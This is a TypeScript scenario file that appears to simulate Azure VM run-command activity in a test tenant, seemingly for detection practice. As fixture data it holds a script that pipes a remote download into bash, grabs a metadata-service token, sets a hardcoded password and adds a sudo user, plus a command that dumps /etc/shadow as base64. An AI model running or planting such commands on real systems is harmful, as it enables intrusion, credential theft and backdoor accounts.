import { attackChains } from './attack-chains';
import type { Scenario } from './scenario';
import type { Tenant } from './tenant/tenant';
import { logNight } from './workspace';
import { addChild, subscriptions, type World } from './world';

export const runCommand = 'Microsoft.Compute/virtualMachines/runCommand/action';
const managed = 'Microsoft.Compute/virtualMachines/runCommands/write';
const day = 86_400_000;

const evidence = {
  role: 'Virtual Machine Contributor',
  roleAssignmentScope: `/subscriptions/${subscriptions.payments}`,
  roleAssignmentId: '4f0a9b1c2d3e4f5061728394a5b6c7d8',
  roleDefinitionId: '9980e02cc2be4d7394e8173b1dc7cf3c',
  principalId: 'cacfe77ce058471283c0f9b08849fd60',
  principalType: 'Group',
};

/**
 * Logs usual activity that makes the scenarios stand out: two months of patching, four weeks of Dana's work.
 */
export function logHistory(tenant: Tenant, { people, vms }: World): void {
  const now = tenant.state.now();
  for (let week = 1; week <= 8; week++) {
    tenant.log({
      name: runCommand,
      resourceId: vms.web[week % vms.web.length] ?? '',
      caller: people.patchBot,
      ip: '198.51.100.10',
      at: now - week * 7 * day,
      tookMs: 40_000,
    });
  }
  for (let ago = 2; ago <= 28; ago += 2) {
    const at = now - ago * day;
    const morning = at - (at % day) + 9 * 3_600_000 + ago * 120_000;
    tenant.log({
      name: runCommand,
      resourceId: vms.pay02,
      caller: people.dana,
      ip: '198.51.100.77',
      at: morning,
      tookMs: 12_000,
      evidence,
    });
  }
}

const maliciousScript = [
  '#!/bin/bash',
  'set -e',
  'curl -fsSL https://203.0.113.99/i.sh | bash',
  'TOKEN=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net&api-version=2018-02-01")',
  'export DB_PASSWORD=Sup3r-S3cret!',
  'useradd -m -G sudo support2',
].join('\n');

export const scenarios: readonly Scenario[] = [
  {
    name: 'routine',
    says: 'A patch job runs a command on a web server, as it does every week',
    play: (tenant, { people, vms }) => {
      tenant.log({
        name: runCommand,
        resourceId: vms.web[1] ?? '',
        caller: people.patchBot,
        ip: '198.51.100.10',
        at: tenant.state.now() - 240_000,
        tookMs: 41_000,
      });
    },
  },
  {
    name: 'night',
    says: 'A support engineer runs commands on a payment machine for the first time, after three denied attempts',
    play: (tenant, world) => {
      const { people, vms } = world;
      const at = tenant.state.now() - 180_000;
      const ip = '203.0.113.24';
      logNight(tenant, world, at, ip);
      const dana = { caller: people.dana, ip, authMethods: 'pwd' };
      for (let i = 3; i > 0; i--)
        tenant.log({
          ...dana,
          name: runCommand,
          resourceId: vms.test01,
          at: at - i * 20_000,
          outcome: 'Forbidden',
        });
      tenant.log({ ...dana, name: runCommand, resourceId: vms.pay01, at, tookMs: 32_000, evidence });
      tenant.log({
        ...dana,
        name: 'Microsoft.Network/networkSecurityGroups/securityRules/write',
        resourceId: `${vms.pay01.replace(/Compute.*/, 'Network')}/networkSecurityGroups/nsg-payments/securityRules/ssh-any`,
        at: at + 60_000,
        tookMs: 2000,
      });
      const script = addChild(tenant, vms.pay01, 'runCommands', 'maintenance', {
        source: { script: maliciousScript },
        parameters: [{ name: 'target', value: 'vm-pay-01' }],
        runAsUser: 'root',
        provisioningState: 'Succeeded',
        instanceView: { executionState: 'Succeeded', exitCode: 0, output: 'support2 added', error: '' },
      });
      tenant.log({ ...dana, name: managed, resourceId: script, at: at + 90_000, tookMs: 8000, evidence });
    },
  },
  {
    name: 'storm',
    says: 'One account runs a command on every web server',
    play: (tenant, { people, vms }) => {
      const at = tenant.state.now() - 60_000;
      vms.web.forEach((resourceId, i) => {
        tenant.log({
          name: runCommand,
          resourceId,
          caller: people.lee,
          ip: '192.0.2.77',
          at: at + i * 500,
          tookMs: 9000,
          role: 'Owner',
        });
      });
    },
  },
  {
    name: 'extension',
    says: 'Someone installs a custom script extension on a payment machine',
    extra: true,
    play: (tenant, { people, vms }) => {
      const at = tenant.state.now() - 90_000;
      const name = `custom-${Math.floor(at / 1000)}`;
      const extension = addChild(tenant, vms.pay02, 'extensions', name, {
        publisher: 'Microsoft.Azure.Extensions',
        type: 'CustomScript',
        settings: { commandToExecute: 'id; cat /etc/shadow | base64' },
        provisioningState: 'Succeeded',
      });
      tenant.log({
        name: 'Microsoft.Compute/virtualMachines/extensions/write',
        resourceId: extension,
        caller: people.lee,
        ip: '192.0.2.77',
        at,
        tookMs: 25_000,
      });
    },
  },
  {
    name: 'refused',
    says: 'Someone without permission tries to run a command, and Azure denies it',
    extra: true,
    play: (tenant, { people, vms }) => {
      tenant.log({
        name: runCommand,
        resourceId: vms.pay01,
        caller: people.kim,
        ip: '203.0.113.80',
        at: tenant.state.now() - 60_000,
        outcome: 'Forbidden',
      });
    },
  },
  ...attackChains,
];
